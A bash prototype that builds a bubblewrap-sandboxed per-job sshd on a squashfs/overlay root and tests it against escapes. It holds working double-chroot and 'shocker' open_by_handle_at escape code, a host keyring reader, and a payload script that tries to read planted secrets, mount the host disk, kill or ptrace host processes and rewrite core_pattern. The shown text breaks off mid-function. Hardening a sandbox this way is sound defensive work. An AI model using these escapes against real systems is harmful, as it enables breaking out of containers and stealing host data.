#!/bin/bash
# Prototype: squashfs+overlay image root in a private mount namespace and a per-job
# OpenSSH sshd inside bubblewrap (jail=true / jail=false), with escape tests.
#
# Usage: ./run.sh [all|squash|big|jobs|netns|caps|devtest|timing|killtest|clean]   (default: all)
# Everything is created under $W (+ the two planted secrets) and removed by "clean",
# which "all" runs at the end. Needs: bubblewrap busybox-static openssh-client
# openssh-server squashfs-tools gcc(+libc6-dev for -static) python3-seccomp.
#
# Two sandbox profiles are exercised:
#   brief    = exactly the configuration in the task brief (cap-drop list, --proc, ...)
#   hardened = brief + fixes for what the brief profile leaked (see REPORT.md):
#              env -i, ro /proc/sys, cap allow-list + bounding set, seccomp, tmpfs sizes,
#              /dev (+/proc) inside image-root for jail=true.
set -u
BASE=/var/tmp/sandbox-proto
W=$BASE/work
SECRET1=$BASE/host-secret
SECRET2=/root/secret
export LC_ALL=C
now() { date +%s%N; }
ms() { echo $(( ($2 - $1) / 1000000 )); }
say() { printf '\n=== %s\n' "$*"; }
res() { printf 'RESULT %-40s %s\n' "$1" "$2"; }

SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
          -o BatchMode=yes -o IdentitiesOnly=yes -o IdentityAgent=none -o LogLevel=ERROR
          -o ConnectTimeout=5)

# ============================================================ host setup
setup_host() {
  mkdir -p $W/bin $W/images $W/jobs
  chmod 755 $BASE $W; chmod 700 $W/jobs   # user-made setuid files in job dirs must not be reachable
  [ -e $SECRET1 ] || echo "HOST-SECRET-1 $(od -An -N8 -tx1 /dev/urandom | tr -d ' ')" > $SECRET1
  [ -e $SECRET2 ] || echo "HOST-SECRET-2 $(od -An -N8 -tx1 /dev/urandom | tr -d ' ')" > $SECRET2
  chmod 600 $SECRET1 $SECRET2

  # --- static attack helpers (a real user can upload any binary via sftp)
  cat > $W/bin/escape.c <<'C'
/* classic double-chroot escape; then list "/" and read the files given as args,
   or with "--exec PROG ARGS..." exec a program in the escaped root */
#include <stdio.h>
#include <unistd.h>
#include <sys/stat.h>
#include <dirent.h>
#include <errno.h>
#include <string.h>
int main(int argc, char **argv) {
  mkdir("esc-x", 0755);
  if (chroot("esc-x")) { printf("chroot#1 failed: %s\n", strerror(errno)); return 1; }
  for (int i = 0; i < 100; i++) chdir("..");
  if (chroot(".")) { printf("chroot#2 failed: %s\n", strerror(errno)); return 1; }
  if (argc > 2 && !strcmp(argv[1], "--exec")) { execv(argv[2], argv + 2); perror("execv"); return 1; }
  DIR *d = opendir("/"); struct dirent *e;
  printf("after escape, / =");
  while (d && (e = readdir(d))) if (e->d_name[0] != '.') printf(" %s", e->d_name);
  printf("\n");
  for (int i = 1; i < argc; i++) {
    FILE *f = fopen(argv[i], "r"); char buf[200] = "";
    if (!f) { printf("read %s: %s\n", argv[i], strerror(errno)); continue; }
    if (!fgets(buf, sizeof buf, f)) buf[0] = 0;
    fclose(f); printf("read %s: OK: %s", argv[i], buf);
  }
  return 0;
}
C
  cat > $W/bin/shocker.c <<'C'
/* "shocker": open_by_handle_at() of the ext4 root inode (ino 2, gen 0) via a mount fd */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
int main(int argc, char **argv) {
  int mfd = open(argc > 1 ? argv[1] : "/", O_RDONLY | O_DIRECTORY);
  if (mfd < 0) { printf("open mount fd: %s\n", strerror(errno)); return 1; }
  struct file_handle *h = malloc(sizeof(*h) + 8);
  unsigned int ino = 2, gen = 0;
  h->handle_bytes = 8; h->handle_type = 1; /* FILEID_INO32_GEN */
  memcpy(h->f_handle, &ino, 4); memcpy(h->f_handle + 4, &gen, 4);
  int fd = open_by_handle_at(mfd, h, O_RDONLY | O_DIRECTORY);
  if (fd < 0) { printf("open_by_handle_at(ext4 root inode): %s\n", strerror(errno)); return 1; }
  DIR *d = fdopendir(fd); struct dirent *e;
  printf("open_by_handle_at OK, fs root =");
  while ((e = readdir(d))) if (e->d_name[0] != '.') printf(" %s", e->d_name);
  printf("\n");
  return 0;
}
C
  gcc -static -O2 -o $W/bin/escape $W/bin/escape.c && gcc -static -O2 -o $W/bin/shocker $W/bin/shocker.c || exit 1
  head -c 4096 /dev/zero > $W/bin/fake.ko
  # host-root keyring probe (uid 0 in the sandbox == uid 0 on the host)
  cat > $W/bin/keyring.py <<'PY'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
L = ctypes.c_long
def err(): return os.strerror(ctypes.get_errno())
if sys.argv[1] == "plant":      # host side: put a key into root's user keyring
    k = libc.syscall(L(248), b"user", b"sandbox-proto-test", b"HOST-KEYRING-SECRET", L(19), L(-4)); print(k)
elif sys.argv[1] == "remove":
    libc.syscall(L(250), L(21), L(int(sys.argv[2])))           # KEYCTL_INVALIDATE
else:                           # sandbox side: find and read it
    k = libc.syscall(L(250), L(10), L(-4), b"user", b"sandbox-proto-test", L(0))   # KEYCTL_SEARCH @u
    if k < 0: print("keyctl(SEARCH @u):", err()); sys.exit(1)
    b = ctypes.create_string_buffer(64); n = libc.syscall(L(250), L(11), L(k), b, L(64))  # KEYCTL_READ
    print("READ host root @u key:", b.raw[:n] if n >= 0 else err())
PY
  printf '%s\n' 'v=$(cat /proc/sys/kernel/core_pattern) && printf "%s\n" "$v" > /proc/sys/kernel/core_pattern && echo "SYSCTL WRITE OK (core_pattern rewritten with its own value \"$v\")"' > $W/bin/sysctl-test.sh
  # seccomp filter for the hardened profile (deny-list on top of the cap allow-list)
  cat > $W/bin/seccomp-gen.py <<'PY'
import seccomp, errno, sys
f = seccomp.SyscallFilter(defaction=seccomp.ALLOW)      # non-native arch (i386/x32) -> KILL
EPERM = seccomp.ERRNO(errno.EPERM); NEWUSER = 0x10000000
f.add_rule(EPERM, "unshare", seccomp.Arg(0, seccomp.MASKED_EQ, NEWUSER, NEWUSER))
f.add_rule(EPERM, "clone", seccomp.Arg(0, seccomp.MASKED_EQ, NEWUSER, NEWUSER))
f.add_rule(seccomp.ERRNO(errno.ENOSYS), "clone3")         # args not filterable -> libc falls back to clone
for s in ("keyctl add_key request_key bpf perf_event_open userfaultfd kexec_load kexec_file_load "
          "init_module finit_module delete_module open_by_handle_at acct swapon swapoff reboot syslog "
          "mount umount2 pivot_root move_mount open_tree fsopen fsconfig fsmount fspick mount_setattr "
          "setns io_uring_setup io_uring_enter io_uring_register quotactl").split():
    f.add_rule(EPERM, s)
f.export_bpf(open(sys.argv[1], "wb"))
PY
  /usr/bin/python3 $W/bin/seccomp-gen.py $W/bin/seccomp.bpf || exit 1
  # attack payload, POSIX sh (busybox sh in the jail, dash otherwise).
  # env: BB DISK DISK_MAJ DISK_MIN VICTIM HOSTPORT SHOCK_DIR UPESC CHATTR IMM_IN IMM_ESC PY
  cat > $W/bin/payload.sh <<'SH'
r() { n=$1; shift; o=$("$@" 2>&1); c=$?; printf "RESULT %-40s rc=%s %s\n" "$n" "$c" "$(printf %s "$o" | head -c 420 | tr "\n\t" "| ")"; }
r "id" id
r "caps/nnp/seccomp (/proc/self/status)" grep -E "^(CapEff|CapBnd|CapInh|CapAmb|NoNewPrivs|Seccomp):" /proc/self/status
r "ls /" ls /
r "cat host-secret" cat /var/tmp/sandbox-proto/host-secret
r "cat /root/secret" cat /root/secret
r "double-chroot escape (static C)" /tmp/escape /var/tmp/sandbox-proto/host-secret /root/secret /mnt/image/complete
r "python3 chroot escape" python3 -c 'import os; os.mkdir("x"); os.chroot("x"); os.chdir("../../../../.."); os.chroot("."); print(os.listdir("/")); print(open("/root/secret").read())'
r "mknod b $DISK_MAJ:$DISK_MIN (host disk)" mknod /tmp/d b $DISK_MAJ $DISK_MIN
r "mount -t ext4 /dev/$DISK" $BB mount -t ext4 /dev/$DISK /tmp
r "mount -t tmpfs" $BB mount -t tmpfs none /tmp
r "shocker open_by_handle_at($SHOCK_DIR)" /tmp/shocker $SHOCK_DIR
r "cat /proc/1/cmdline" sh -c 'tr "\0" " " < /proc/1/cmdline'
r "cat /proc/1/environ" sh -c 'tr "\0" " " < /proc/1/environ'
r "ls /proc/1/root/" ls /proc/1/root/
r "visible pids" sh -c 'ls /proc | grep -E "^[0-9]+$" | tr "\n" " "'
r "kill -9 host pid $VICTIM" kill -9 $VICTIM
r "insmod (4k dummy)" $BB insmod /tmp/fake.ko
r "write /proc/sys/kernel/core_pattern" sh /tmp/sysctl-test.sh
r "escape -> write core_pattern" /tmp/escape --exec /bin/sh $UPESC/sysctl-test.sh
r "escape -> read host root keyring" /tmp/escape --exec /usr/bin/python3 $UPESC/keyring.py read
r "/proc/sys mount flags" sh -c 'grep " /proc/sys " /proc/self/mountinfo | cut -d" " -f5,6'
r "unshare -U -r (user namespace)" $BB unshare -U -r id
r "chattr +i in job dir (blocks cleanup)" sh -c "touch $IMM_IN && $CHATTR +i $IMM_ESC && echo immutable-set"
r "ptrace(ATTACH) host pid $VICTIM" $PY -c "import ctypes,os; l=ctypes.CDLL(None,use_errno=True); r=l.ptrace(16,$VICTIM,0,0); print(r, os.strerror(ctypes.get_errno()))"
r "write /usr" touch /usr/evil
r "write /etc" touch /etc/evil
r "ls /dev" ls /dev
r "ls /sys" ls /sys
r "open fds of shell" ls /proc/self/fd
r "host TCP LISTEN sockets visible" sh -c 'grep -c " 0A " /proc/net/tcp'
r "connect host 127.0.0.1:$HOSTPORT" sh -c "echo | $BB nc -w 2 127.0.0.1 $HOSTPORT"
SH
}

# ============================================================ 1. image root (squashfs)
make_mini_root() {
  local R=$W/images/miniroot
  rm -rf $R; mkdir -p $R/{bin,etc,tmp,dev,root,proc,mnt}
  cp /bin/busybox $R/bin/busybox
  for a in $(/bin/busybox --list); do [ -e $R/bin/$a ] || ln -s busybox $R/bin/$a; done
  ln -sf busybox $R/bin/sh
  echo 'root:x:0:0:root:/root:/bin/sh' > $R/etc/passwd
  echo 'root:x:0:' > $R/etc/group
  chmod 1777 $R/tmp; chmod 755 $R $R/dev; chmod 700 $R/root
  mksquashfs $R $W/images/mini.sqfs -noappend -quiet -no-progress >/dev/null
  echo "mini.sqfs: $(du -h $W/images/mini.sqfs | cut -f1)"
}

# mount helper; runs INSIDE the private mount namespace ($1 = job dir)
MOUNT_IMAGE='set -e; J=$1
  mount -t squashfs -o loop,ro "$J/image.sqfs" "$J/lower"
  mount -t overlay overlay -o "lowerdir=$J/lower,upperdir=$J/ovl/upper,workdir=$J/ovl/work" "$J/mnt/image-root"
  cd /'

# job dir layout:  $J/image.sqfs  $J/lower  $J/ovl/{upper,work}  $J/etc  $J/userkey
#                  $J/mnt/ (-> /mnt/image in the sandbox) with image-root/ and "complete"
new_jobdir() {  # $1 name, $2 squashfs
  local J=$W/jobs/$1
  [ -d $J ] && { chattr -R -i $J 2>/dev/null; rm -rf $J; }
  mkdir -p $J/{lower,ovl/upper,ovl/work,mnt/image-root}
  chmod 755 $J $J/mnt $J/mnt/image-root; chmod 700 $J/ovl
  ln -s "$(readlink -f $2)" $J/image.sqfs
  echo $J
}

phase_squash() {
  say "1a. squashfs + overlay in a private mount namespace (mini root)"
  make_mini_root
  local J; J=$(new_jobdir sqtest $W/images/mini.sqfs)
  local t0=$(now)
  # NB: the last command must be exec'ed: a forked child that outlives the killed
  # parent keeps the namespace (mounts + loop device) alive.
  unshare --mount --propagation private -- sh -c "$MOUNT_IMAGE"'
    echo ready-marker; echo written-in-overlay > "$J/mnt/image-root/tmp/hello"
    findmnt -n -o TARGET,FSTYPE,OPTIONS -R "$J/mnt/image-root" | sed "s/^/  ns: /"
    losetup -a | sed "s/^/  ns loop: /"; exec sleep 1000' sh $J > $J/ns.out 2>&1 &
  local P=$!
  while ! grep -q ready-marker $J/ns.out 2>/dev/null; do sleep 0.005; done; local t1=$(now)
  sleep 0.3; cat $J/ns.out
  res "mini overlay ready (ms)" "$(ms $t0 $t1)"
  res "write landed in upper" "$(cat $J/ovl/upper/tmp/hello 2>&1)"
  res "host ns: mounts under $W" "$(findmnt -rn | grep -c "$W")"
  res "host: loop devices while running" "$(losetup -a | grep -c "$W/images")"
  kill -9 $P; wait $P 2>/dev/null
  local n=0; while losetup -a | grep -q "$W/images" && [ $n -lt 200 ]; do sleep 0.01; n=$((n+1)); done
  res "after kill: host findmnt" "$(findmnt -rn | grep -c "$W") mount(s)"
  res "after kill: /proc/*/mountinfo holders" "$(grep -l "$W" /proc/[0-9]*/mountinfo 2>/dev/null | wc -l)"
  res "after kill: losetup -a" "$(losetup -a | grep -c "$W/images") loop(s) (polled $((n*10)) ms)"
}

phase_big() {
  say "1b. ~1 GiB squashfs: overlay-ready time vs unsquashfs"
  local SRC="/usr/lib/x86_64-linux-gnu /usr/lib/jvm /usr/lib/llvm-14 /usr/share /usr/bin"
  local t0=$(now)
  mksquashfs $SRC $W/images/big.sqfs -noappend -quiet -no-progress >/dev/null 2>&1
  local t1=$(now)
  res "mksquashfs (gzip, 2 cores) s" "$(( $(ms $t0 $t1) / 1000 )) -> $(du -sh $W/images/big.sqfs | cut -f1) from $(du -sch $SRC 2>/dev/null | tail -1 | cut -f1), $(find $SRC | wc -l) entries"
  local J; J=$(new_jobdir bigtest $W/images/big.sqfs)
  for cache in cold cold cold warm; do
    [ $cache = cold ] && { sync; echo 3 > /proc/sys/vm/drop_caches; }
    t0=$(now)
    unshare --mount --propagation private -- sh -c "$MOUNT_IMAGE"'; ls "$J/mnt/image-root" >/dev/null' sh $J
    t1=$(now); res "overlay ready ($cache cache) ms" "$(ms $t0 $t1)"
  done
  sync; echo 3 > /proc/sys/vm/drop_caches; t0=$(now)
  unshare --mount --propagation private -- sh -c "$MOUNT_IMAGE"'; find "$J/mnt/image-root" >/dev/null' sh $J
  t1=$(now); res "overlay ready + find over all (cold) ms" "$(ms $t0 $t1)"
  sync; echo 3 > /proc/sys/vm/drop_caches; t0=$(now)
  unshare --mount --propagation private -- sh -c "$MOUNT_IMAGE"'; tar -C "$J/mnt/image-root" -cf - . | cat >/dev/null' sh $J
  t1=$(now); res "overlay ready + read ALL data (cold) ms" "$(ms $t0 $t1)"
  sync; echo 3 > /proc/sys/vm/drop_caches; t0=$(now)
  unsquashfs -no-progress -d $W/images/big.unsq $W/images/big.sqfs >/dev/null 2>&1
  t1=$(now); sync; local t2=$(now)
  res "unsquashfs (cold) ms" "$(ms $t0 $t1) (+sync $(ms $t1 $t2)) -> $(du -sh $W/images/big.unsq | cut -f1)"
  t0=$(now); rm -rf $W/images/big.unsq; sync; t1=$(now)
  res "rm -rf of the unpacked tree ms" "$(ms $t0 $t1)"
  rm -rf $W/images/big.sqfs $J
}

# ============================================================ 2. per-job sshd in bwrap
# caps the brief requires dropping (profile "brief")
DROP_CAPS=(CAP_SYS_ADMIN CAP_SYS_MODULE CAP_SYS_RAWIO CAP_MKNOD CAP_DAC_READ_SEARCH CAP_SYS_PTRACE
  CAP_SYS_BOOT CAP_SYS_TIME CAP_BPF CAP_PERFMON CAP_SYSLOG CAP_MAC_ADMIN CAP_MAC_OVERRIDE
  CAP_AUDIT_CONTROL CAP_AUDIT_READ CAP_NET_ADMIN CAP_CHECKPOINT_RESTORE)
# allow-list (profile "hardened"): sshd needs SETUID SETGID SYS_CHROOT (+CHOWN AUDIT_WRITE for
# pty sessions); the rest is what a root session customising an image typically needs.
KEEP_CAPS=(CHOWN DAC_OVERRIDE FOWNER FSETID KILL SETUID SETGID SYS_CHROOT SETFCAP AUDIT_WRITE)
PROFILE=hardened

free_port() { /usr/bin/python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }

gen_etc() {  # $1 job dir, $2 jail(true/false), $3 port, $4 listen addr
  local J=$1 E=$1/etc
  mkdir -p $E/ssh; chmod 755 $E $E/ssh
  cat > $E/passwd <<P
root:x:0:0:root:/root:/bin/sh
sshd:x:100:65534:sshd privsep:/run/sshd:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
P
  printf 'root:x:0:\ntty:x:5:\nnogroup:x:65534:\n' > $E/group
  printf 'passwd: files\ngroup: files\nshadow: files\nhosts: files\n' > $E/nsswitch.conf
  printf '127.0.0.1 localhost\n' > $E/hosts
  ssh-keygen -q -t ed25519 -N '' -C job-hostkey -f $E/ssh/ssh_host_ed25519_key
  ssh-keygen -q -t ed25519 -N '' -C job-user -f $J/userkey     # private key stays outside
  ssh-keygen -q -t ed25519 -N '' -C other -f $J/otherkey
  install -m 644 $J/userkey.pub $E/ssh/authorized_keys
  cat > $E/ssh/sshd_config <<S
Port $3
ListenAddress $4
HostKey /etc/ssh/ssh_host_ed25519_key
PidFile none
PermitRootLogin prohibit-password
AllowUsers root
PubkeyAuthentication yes
AuthorizedKeysFile /etc/ssh/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes yes
Subsystem sftp internal-sftp
PrintMotd no
PrintLastLog no
UseDNS no
X11Forwarding no
AllowAgentForwarding no
AllowTcpForwarding no
PermitTunnel no
LogLevel INFO
S
  [ "$2" = true ] && echo 'ChrootDirectory /mnt/image/image-root' >> $E/ssh/sshd_config
  cat > $E/ssh/inetd.py <<'PY'
import os, socket, signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)          # auto-reap
ls = socket.socket(fileno=3)                            # listening socket created in the host netns
while True:
    c, _ = ls.accept()
    if os.fork() == 0:
        signal.signal(signal.SIGCHLD, signal.SIG_DFL); ls.close()
        os.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1); c.close()
        os.execv("/usr/sbin/sshd", ["sshd", "-i", "-e", "-f", "/etc/ssh/sshd_config"])
    c.close()
PY
  /usr/sbin/sshd -t -f $E/ssh/sshd_config 2>&1 | grep -v 'privilege separation directory' || true
}

# bwrap command line ($1 job dir, $2 jail, rest: extra bwrap args). Uses PROFILE / CAPS_OVERRIDE.
bwrap_cmd() {
  local J=$1 jail=$2; shift 2
  local IR=/mnt/image/image-root c
  local SSHD=(/usr/sbin/sshd -D -e -f /etc/ssh/sshd_config)
  # NETNS=1: no host network; the agent passes an already-listening host socket as fd 3 and an
  # accept loop inside the sandbox runs "sshd -i" (inetd mode) per connection
  [ "${NETNS:-0}" = 1 ] && SSHD=(/usr/bin/python3 /etc/ssh/inetd.py)
  local a=(bwrap --die-with-parent --new-session
    --unshare-pid --unshare-ipc --unshare-uts --unshare-cgroup   # (mount ns is always new)
    --hostname job-$(basename $J)
    --ro-bind /usr /usr
    --symlink usr/bin /bin --symlink usr/lib /lib --symlink usr/lib64 /lib64 --symlink usr/sbin /sbin
    --ro-bind $J/etc /etc)
  # hardened jail=true: /dev lives in image-root (see below), everything else gets --dev /dev
  [ $PROFILE = hardened ] && [ $jail = true ] || a+=(--dev /dev)
  a+=(--proc /proc)
  if [ $PROFILE = hardened ]; then
    # bwrap run as real root does NOT cover /proc/sys (its access(W_OK) test says "not writable")
    a+=(--ro-bind /proc/sys /proc/sys --ro-bind-try /proc/sysrq-trigger /proc/sysrq-trigger
        --size $((512<<20)) --tmpfs /tmp --size $((16<<20)) --tmpfs /run)
  else
    a+=(--tmpfs /tmp --tmpfs /run)
  fi
  a+=(--perms 0755 --dir /run/sshd --perms 0700 --dir /root --bind $J/mnt /mnt/image)
  if [ $PROFILE = hardened ] && [ $jail = true ]; then
    # one /dev shared by sshd (pty allocation) and the chroot: put it in image-root, symlink /dev to it
    a+=(--dev $IR/dev --symlink $IR/dev /dev --proc $IR/proc --ro-bind /proc/sys $IR/proc/sys)
  fi
  [ "${NETNS:-0}" = 1 ] && a+=(--unshare-net)
  if [ -n "${CAPS_OVERRIDE:-}" ]; then
    a+=(--cap-drop ALL); for c in $CAPS_OVERRIDE; do a+=(--cap-add $c); done
    a+=("$@" "${SSHD[@]}")
  elif [ $PROFILE = hardened ]; then
    a+=(--cap-drop ALL --cap-add CAP_SETPCAP); for c in "${KEEP_CAPS[@]}"; do a+=(--cap-add CAP_$c); done
    local bs=-all; for c in "${KEEP_CAPS[@]}"; do bs+=",+${c,,}"; done
    a+=(--seccomp 9 "$@" /usr/bin/setpriv --inh-caps=-all --bounding-set=$bs --
        "${SSHD[@]}")
  else
    for c in "${DROP_CAPS[@]}"; do a+=(--cap-drop $c); done
    a+=("$@" "${SSHD[@]}")
  fi
  printf '%q ' "${a[@]}"
  [ $PROFILE = hardened ] && [ -z "${CAPS_OVERRIDE:-}" ] && printf '9<%q' $W/bin/seccomp.bpf
}

wait_banner() {  # $1 port, $2 timeout ms -> 0 once an "SSH-2.0-" banner was read
  local end=$(( $(now) + $2 * 1000000 )) line
  while [ $(now) -lt $end ]; do
    if exec 3<>/dev/tcp/127.0.0.1/$1; then
      if IFS= read -r -t 2 line <&3 && [[ $line == SSH-2.0-* ]]; then exec 3<&-; return 0; fi
      exec 3<&-
    fi 2>/dev/null
    sleep 0.002
  done
  return 1
}

# start a job: env -i -> unshare (private mount ns: squashfs+overlay) -> exec bwrap -> sshd
# sets J PORT JOBPID READY_MS PREP_MS
start_job() {  # $1 name, $2 jail, $3 listen addr, $4.. extra bwrap args
  local name=$1 jail=$2 addr=$3; shift 3
  J=$(new_jobdir $name $W/images/mini.sqfs)
  PORT=$(free_port)
  local tp=$(now); gen_etc $J $jail $PORT $addr; PREP_MS=$(ms $tp $(now))
  local cmd; cmd=$(bwrap_cmd $J $jail "$@")
  echo "$cmd" > $J/bwrap.cmd
  T0=$(now)
  local pre=(); [ "${NETNS:-0}" = 1 ] && pre=(/usr/bin/python3 -c "$LISTENER" $PORT)
  "${pre[@]}" env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin \
    unshare --mount --propagation private -- /bin/sh -c "$MOUNT_IMAGE"'
    exec '"$cmd" sh $J 2> $J/sshd.log &
  JOBPID=$!
  if wait_banner $PORT 5000; then READY_MS=$(ms $T0 $(now)); else READY_MS=FAIL; sed 's/^/    log: /' $J/sshd.log; fi
}
# agent side for NETNS=1: create the listening socket in the host netns, hand it over as fd 3
LISTENER='import os, socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(64)
os.dup2(s.fileno(), 3); os.set_inheritable(3, True); os.execvp(sys.argv[2], sys.argv[2:])'
stop_job() { kill -9 $JOBPID 2>/dev/null; wait $JOBPID 2>/dev/null; }
sshj() { ssh "${SSH_OPTS[@]}" -i $J/userkey -p $PORT root@127.0.0.1 "$@"; }
sftpj() { sftp -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes \
            -o LogLevel=ERROR -i $J/userkey -P $PORT -b "$@" root@127.0.0.1; }

phase_jobs() {
  [ -e $W/images/mini.sqfs ] || make_mini_root
  local DISK=$(basename $(findmnt -no SOURCE /)) MAJ MIN
  read MAJ MIN < <(stat -Lc '%t %T' /dev/$DISK | { read a b; echo $((16#$a)) $((16#$b)); })
  sleep 100000 & local VICTIM=$!               # a host process to attack
  local HOSTPORT=$(free_port)                    # a host-loopback-only service
  /usr/bin/python3 -c "
import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1',$HOSTPORT)); s.listen(5)
while True:
    c,_=s.accept(); c.sendall(b'HOST-LOOPBACK-ONLY-SERVICE\n'); c.close()" & local SVC=$!
  local KEYID=$(/usr/bin/python3 $W/bin/keyring.py plant)   # a key in host root's user keyring
  local prof jail
  for prof in ${PROFILES:-brief hardened}; do
  for jail in true false; do
    PROFILE=$prof
    say "2. profile=$prof jail=$jail"
    start_job $prof-$jail $jail 127.0.0.1
    res "bwrap->banner ms (keygen+etc before: ${PREP_MS}ms)" "$READY_MS"
    echo "bwrap command: $(cat $J/bwrap.cmd)"
    res "login with key" "$(sshj 'echo LOGIN-OK; hostname; pwd' 2>&1 | tr '\n' ' ')"
    local o; o=$(ssh "${SSH_OPTS[@]}" -i $J/otherkey -p $PORT root@127.0.0.1 true 2>&1); res "login with other key" "rc=$? $o"
    res "pty session: tty; echo hi >/dev/null" "$(sshj -tt 'tty; echo hi > /dev/null && ls -l /dev/null' 2>&1 | tr '\r\n' '  ')"
    printf 'put %s /tmp/\n' $W/bin/{escape,shocker,fake.ko,keyring.py,sysctl-test.sh} > $J/sftp.batch
    printf 'chmod 755 /tmp/escape\nchmod 755 /tmp/shocker\nls /tmp\n' >> $J/sftp.batch
    res "sftp -b upload" "$(sftpj $J/sftp.batch 2>&1 | tail -1 | tr -s ' \n' ' ') rc=${PIPESTATUS[0]}"
    local BB SHOCK UPESC IMM_IN IMM_ESC IMM_HOST CHATTR PY
    if [ $jail = true ]; then
      res "ls / (image root?)" "$(sshj 'ls /' | tr '\n' ' ')"
      sshj 'touch /tmp/complete'
      res "touch /tmp/complete -> upper/tmp" "$(ls $J/ovl/upper/tmp/ | tr '\n' ' ')"
      res "host view: upper/dev after session" "[$(ls -l $J/ovl/upper/dev 2>&1 | tail -n +2 | tr '\n' ' ')]"
      BB=busybox SHOCK=/ UPESC=/mnt/image/image-root/tmp IMM_IN=/tmp/imm IMM_ESC=/mnt/image/image-root/tmp/imm
      CHATTR="/tmp/escape --exec /usr/bin/chattr" PY="/tmp/escape --exec /usr/bin/python3"; IMM_HOST=$J/ovl/upper/tmp/imm
    else
      res "ls /mnt/image/image-root + write" "$(sshj 'ls /mnt/image/image-root | tr "\n" " "; touch /mnt/image/image-root/root/x && echo writable')"
      sshj 'touch /mnt/image/complete'
      res "touch /mnt/image/complete" "$(ls $J/mnt/ | tr '\n' ' ')"
      BB=/mnt/image/image-root/bin/busybox SHOCK=/mnt/image UPESC=/tmp IMM_IN=/mnt/image/imm IMM_ESC=/mnt/image/imm
      CHATTR=/usr/bin/chattr PY=/usr/bin/python3; IMM_HOST=$J/mnt/imm
    fi
    echo "--- escape attempts profile=$prof jail=$jail"
    sshj "BB=$BB DISK=$DISK DISK_MAJ=$MAJ DISK_MIN=$MIN VICTIM=$VICTIM HOSTPORT=$HOSTPORT SHOCK_DIR=$SHOCK UPESC=$UPESC IMM_IN=$IMM_IN IMM_ESC=$IMM_ESC CHATTR='$CHATTR' PY='$PY' sh -s" < $W/bin/payload.sh 2>&1
    res "host: victim pid still alive" "$(kill -0 $VICTIM 2>/dev/null && echo yes || echo NO)"
    res "host: core_pattern" "$(cat /proc/sys/kernel/core_pattern)"
    res "host: secrets unchanged" "$(cat $SECRET1 $SECRET2 | tr '\n' ' ')"
    res "host: lsattr $IMM_HOST" "$(lsattr $IMM_HOST 2>&1 | cut -d' ' -f1)"
    res "host: rm -f of it (agent cleanup)" "$(rm -f $IMM_HOST 2>&1 && echo removed)"
    echo "--- sshd log (tail)"; tail -4 $J/sshd.log | sed 's/^/  /'
    stop_job
    chattr -R -i $J 2>/dev/null
  done; done
  PROFILE=hardened
  say "2.x ListenAddress 0.0.0.0"
  start_job any false 0.0.0.0
  local IP=$(ip -4 -o addr show scope global | awk '{print $4}' | cut -d/ -f1 | head -1)
  res "0.0.0.0: ssh via $IP" "$(ssh "${SSH_OPTS[@]}" -i $J/userkey -p $PORT root@$IP 'echo ok-via-non-loopback' 2>&1)"
  stop_job
  say "positive controls on the HOST (full caps, no sandbox)"
  res "host: shocker on $W" "$($W/bin/shocker $W)"
  res "host: keyring read" "$(/usr/bin/python3 $W/bin/keyring.py read)"
  /usr/bin/python3 $W/bin/keyring.py remove $KEYID
  kill $VICTIM $SVC 2>/dev/null; wait $VICTIM $SVC 2>/dev/null
}

# ============================================================ caps sshd itself needs
phase_caps() {
  say "3. minimal capability set for sshd (--cap-drop ALL + --cap-add ...)"
  [ -e $W/images/mini.sqfs ] || make_mini_root
  local sets=("CAP_SETUID CAP_SETGID"
              "CAP_SETUID CAP_SETGID CAP_SYS_CHROOT"
              "CAP_SETUID CAP_SETGID CAP_SYS_CHROOT CAP_CHOWN"
              "CAP_SETUID CAP_SETGID CAP_SYS_CHROOT CAP_AUDIT_WRITE"
              "CAP_SETUID CAP_SETGID CAP_SYS_CHROOT CAP_CHOWN CAP_AUDIT_WRITE")
  local s jail; PROFILE=brief
  for jail in false true; do
    for s in "${sets[@]}"; do
      CAPS_OVERRIDE=$s
      start_job caps-$jail $jail 127.0.0.1
      local a b d
      a=$(sshj 'echo cmd-ok' 2>&1 | grep -v 'Changed root' | tr '\n' ' ')
      b=$(sshj -tt 'echo pty-ok' 2>&1 | grep -v lastlog | tr '\r\n' '  ')
      d=$(echo 'ls /' | sftpj - >/dev/null 2>&1 && echo sftp-ok || echo sftp-FAIL)
      res "jail=$jail [${s//CAP_/}]" "cmd:[$a] pty:[$b] $d"
      grep -iE 'fatal|error|fail|not permitted' $J/sshd.log | grep -v lastlog | head -2 | sed 's/^/    log: /'
      stop_job
    done
  done
  CAPS_OVERRIDE=
}

# ============================================================ 4. /dev inside the jail
phase_devtest() {
  say "4. jail=true: /dev handling"
  [ -e $W/images/mini.sqfs ] || make_mini_root
  PROFILE=brief
  start_job dev-brief true 127.0.0.1
  res "brief (image /dev empty): echo hi >/dev/null" "$(sshj 'echo hi > /dev/null; ls -l /dev/null' 2>&1 | tr '\n' ' ')"
  res "brief: host view upper/dev" "[$(ls -l $J/ovl/upper/dev | tail -n +2 | tr '\n' ' ')]  <- image polluted"
  stop_job
  PROFILE=hardened
  start_job dev-hard true 127.0.0.1
  res "hardened: echo hi > /dev/null" "$(sshj 'echo hi > /dev/null && ls -l /dev/null && ls /dev | tr "\n" " "' 2>&1 | tr '\n' ' ')"
  res "hardened: pty session" "$(sshj -tt 'tty; ls /dev/pts | tr "\n" " "' 2>&1 | tr '\r\n' '  ')"
  res "hardened: caps in session" "$(sshj 'grep -E "^(CapEff|CapBnd|CapInh|CapAmb|Seccomp)" /proc/self/status' | tr '\n\t' '  ')"
